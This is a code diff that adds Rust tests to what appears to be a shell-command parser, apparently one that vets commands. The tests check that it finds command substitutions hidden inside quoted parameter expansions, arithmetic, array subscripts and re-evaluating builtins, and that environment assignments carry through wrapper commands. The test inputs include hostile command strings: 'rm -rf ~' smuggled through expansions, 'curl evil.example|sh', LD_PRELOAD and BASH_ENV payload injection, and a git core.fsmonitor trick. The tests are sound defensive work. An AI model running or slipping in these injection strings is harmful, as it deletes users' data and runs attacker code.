@@ -986,3 +986,194 @@ impl Rng {
         items.get(i).copied().unwrap_or("")
     }
 }
+
+#[test]
+fn single_quotes_inside_double_quoted_expansions() {
+    // Checked against bash 5.2 with stand-in programs: inside double quotes
+    // (and a here-document body) the word of `-`, `=`, `+` and `?` is
+    // expanded as double-quoted text, so its single quotes are ordinary.
+    check(
+        r#"ls "${x:-'$(rm -rf ~)'}""#,
+        &["cmd:rm -rf ~", "cmd:ls ${x:-'$(rm -rf ~)'}"],
+    );
+    check(
+        r#"ls "${x:='$(rm a)'}""#,
+        &["cmd:rm a", "cmd:ls ${x:='$(rm a)'}"],
+    );
+    check(
+        r#"ls "${x+'$(rm a)'}""#,
+        &["cmd:rm a", "cmd:ls ${x+'$(rm a)'}"],
+    );
+    check(
+        r#"ls "${x:?'$(rm a)'}""#,
+        &["cmd:rm a", "cmd:ls ${x:?'$(rm a)'}"],
+    );
+    check(
+        r#"ls "${x:-${y:-'$(rm a)'}}""#,
+        &["cmd:rm a", "cmd:ls ${x:-${y:-'$(rm a)'}}"],
+    );
+    check(
+        r#"ls "${x:-'`rm a`'}""#,
+        &["cmd:rm a", "cmd:ls ${x:-'`rm a`'}"],
+    );
+    check(
+        "cat <<E
+${x:-'$(rm h)'}
+E",
+        &["cmd:cat", "cmd:rm h"],
+    );
+    check(r#"[[ "${x:-'$(rm k)'}" ]]"#, &["cmd:rm k"]);
+    check(r#"case a in "${x:-'$(rm m)'}") ;; esac"#, &["cmd:rm m"]);
+    check(r#"case "${x:-'$(rm l)'}" in *) ;; esac"#, &["cmd:rm l"]);
+    // Unquoted, the single quotes quote; patterns keep their quotes.
+    check(r#"ls ${x:-'$(rm a)'}"#, &["cmd:ls ${x:-'$(rm a)'}"]);
+    check(r#"[[ ${x:-'$(rm a)'} ]]"#, &["cmd:[[ ${x:-'$(rm a)'} ]]"]);
+    for op in ["#", "##", "%", "%%", "/", "//", "^", ",", "/a/"] {
+        let c = format!(r#"ls "${{x{op}'$(rm a)'}}""#);
+        let want = format!("cmd:ls ${{x{op}'$(rm a)'}}");
+        check(&c, &[want.as_str()]);
+    }
+    // bash's reader pairs the single quotes: a `}` between them does not
+    // end the expansion, and an unbalanced `$(` between them is an error.
+    check(r#"ls "${x:-'}'}""#, &["cmd:ls ${x:-'}'}"]);
+    err(r#"ls "${x:-'$('}""#, ErrorKind::Syntax);
+    // ANSI-C quoting in an unquoted expansion's word.
+    check(
+        r"ls ${x:-$'\''$(rm j)}",
+        &["cmd:rm j", r"cmd:ls ${x:-$'\''$(rm j)}"],
+    );
+}
+
+#[test]
+fn arithmetic_and_subscripts_expand_single_quoted_text() {
+    // Arithmetic is read as double-quoted text: single quotes are ordinary.
+    check(
+        "ls $(( 'a[$(rm -rf ~)]' ))",
+        &["cmd:rm -rf ~", "cmd:ls $(( 'a[$(rm -rf ~)]' ))"],
+    );
+    check("(( '$(rm o)' ))", &["cmd:rm o"]);
+    check("ls $[ '$(rm p)' ]", &["cmd:rm p", "cmd:ls $[ '$(rm p)' ]"]);
+    check(
+        "for (( '$(rm q)'; 0; )); do :; done",
+        &["cmd:rm q", "cmd::"],
+    );
+    check(
+        "ls $(( ${x:-'$(rm s)'} ))",
+        &["cmd:rm s", "cmd:ls $(( ${x:-'$(rm s)'} ))"],
+    );
+    // A subscript and a substring's offset are arithmetic, quoted or not.
+    check(
+        "ls ${a['$(curl evil.example|sh)']}",
+        &[
+            "cmd:curl evil.example",
+            "cmd:sh",
+            "cmd!sh",
+            "cmd:ls ${a['$(curl evil.example|sh)']}",
+        ],
+    );
+    check(
+        r#"ls "${a['$(rm a)']}""#,
+        &["cmd:rm a", "cmd:ls ${a['$(rm a)']}"],
+    );
+    check(
+        "ls ${!a['$(rm a)']}",
+        &["cmd:rm a", "cmd:ls ${!a['$(rm a)']}"],
+    );
+    check("ls ${x:'$(rm g)'}", &["cmd:rm g", "cmd:ls ${x:'$(rm g)'}"]);
+    check(
+        "ls ${x:0:'$(rm f)'}",
+        &["cmd:rm f", "cmd:ls ${x:0:'$(rm f)'}"],
+    );
+    check(
+        "ls ${x:-${a['$(rm d)']}}",
+        &["cmd:rm d", "cmd:ls ${x:-${a['$(rm d)']}}"],
+    );
+    // Builtins that evaluate their arguments again.
+    check("let 'a[$(rm c)]'", &["cmd:let a[$(rm c)]", "cmd:rm c"]);
+    check("unset 'a[$(rm c)]'", &["cmd:unset a[$(rm c)]", "cmd:rm c"]);
+    check(
+        "declare 'a[$(rm c)]=1'",
+        &["cmd:declare a[$(rm c)]=1", "cmd:rm c"],
+    );
+    check(
+        "read 'a[$(rm c)]' <<< x",
+        &["cmd:read a[$(rm c)]", "cmd:rm c"],
+    );
+    check(
+        "printf -v 'a[$(rm c)]' x",
+        &["cmd:printf -v a[$(rm c)] x", "cmd:rm c"],
+    );
+    check(
+        "test -v 'a[$(rm c)]'",
+        &["cmd:test -v a[$(rm c)]", "cmd:rm c"],
+    );
+    check("[[ -v 'a[$(rm c)]' ]]", &["cmd:rm c"]);
+    check("[[ 'a[$(rm c)]' -eq 1 ]]", &["cmd:rm c"]);
+    check(r#"[[ 1 -lt "a[\$(rm c)]" ]]"#, &["cmd:rm c"]);
+    // Not evaluated: a format string, a plain `[[` string, a substitution
+    // already read.
+    check("printf '$(rm no)' x", &["cmd:printf $(rm no) x"]);
+    check("[[ '$(rm no)' == x ]]", &["cmd:[[ '$(rm no)' == x ]]"]);
+    check("[[ $(wc -l) -eq 0 ]]", &["cmd:wc -l"]);
+    // Partly computed: the value cannot be read.
+    check(
+        r#"let "a[$y]"'$(rm)'"#,
+        &["cmd:let a[$y]$(rm)", "cmd!a[$y]$(rm)"],
+    );
+}
+
+#[test]
+fn assignments_reach_the_wrapped_command() {
+    // The wrapped command runs with the assignments (checked against bash
+    // 5.2 with stand-ins logging their environment), so its ordinary form
+    // keeps the unsafe ones, as it does without the wrapper.
+    check(
+        "LD_PRELOAD=x timeout 60 npm test",
+        &[
+            "con:LD_PRELOAD=x timeout 60 npm test",
+            "con:timeout 60 npm test [LD_PRELOAD=x timeout 60 npm test]",
+            "cmd:LD_PRELOAD=x npm test",
+            "con:npm test [LD_PRELOAD=x npm test]",
+        ],
+    );
+    check(
+        "NODE_ENV=test timeout 60 npm test",
+        &[
+            "con:timeout 60 npm test [NODE_ENV=test timeout 60 npm test]",
+            "con:NODE_ENV=test timeout 60 npm test",
+            "cmd:npm test [NODE_ENV=test npm test]",
+            "con:NODE_ENV=test npm test",
+        ],
+    );
+    let ordinary = |cmd: &str| -> Vec<String> {
+        split_command(cmd, &ShellConfig::default())
+            .unwrap()
+            .iter()
+            .filter(|p| p.kind == Kind::Command)
+            .map(|p| p.value().unwrap_or("!").to_string())
+            .collect()
+    };
+    for (cmd, want) in [
+        (
+            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm -rf ~; false' nice git status",
+            vec!["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=rm -rf ~; false git status"],
+        ),
+        (
+            "BASH_ENV=src/payload.sh bash -c 'git status'",
+            vec!["BASH_ENV=src/payload.sh git status"],
+        ),
+        ("PATH=/tmp/evil:$PATH nohup git status", vec!["PATH=/tmp/evil:$PATH git status"]),
+        ("LD_PRELOAD=x nice -n 5 nohup npm test", vec!["LD_PRELOAD=x npm test"]),
+        ("LD_PRELOAD=x env nice npm test", vec!["LD_PRELOAD=x npm test"]),
+        ("env LD_PRELOAD=x nice npm test", vec!["LD_PRELOAD=x npm test"]),
+        ("LD_PRELOAD=x command exec stdbuf -o0 git status", vec!["LD_PRELOAD=x git status"]),
+        ("LD_PRELOAD=x xargs npm test", vec!["LD_PRELOAD=x xargs npm test", "LD_PRELOAD=x npm test"]),
+        ("LD_PRELOAD=x find . -exec npm test ;", vec!["LD_PRELOAD=x find . -exec npm test", "LD_PRELOAD=x npm test"]),
+        ("LD_PRELOAD=x eval 'git status | cat'", vec!["LD_PRELOAD=x git status", "LD_PRELOAD=x cat"]),
+        (r#"EDITOR=x bash -c 'bash -c "git status"'"#, vec!["EDITOR=x git status"]),
+        ("LD_PRELOAD=x bash -c 'FOO=1 git status $(ls)'", vec!["LD_PRELOAD=x ls", "LD_PRELOAD=x FOO=1 git status $(ls)"]),
+        ("NODE_ENV=test bash -c 'npm test'", vec!["npm test"]),
+    ] {
+        assert_eq!(ordinary(cmd), want, "command {cmd:?}");
+    }
+}
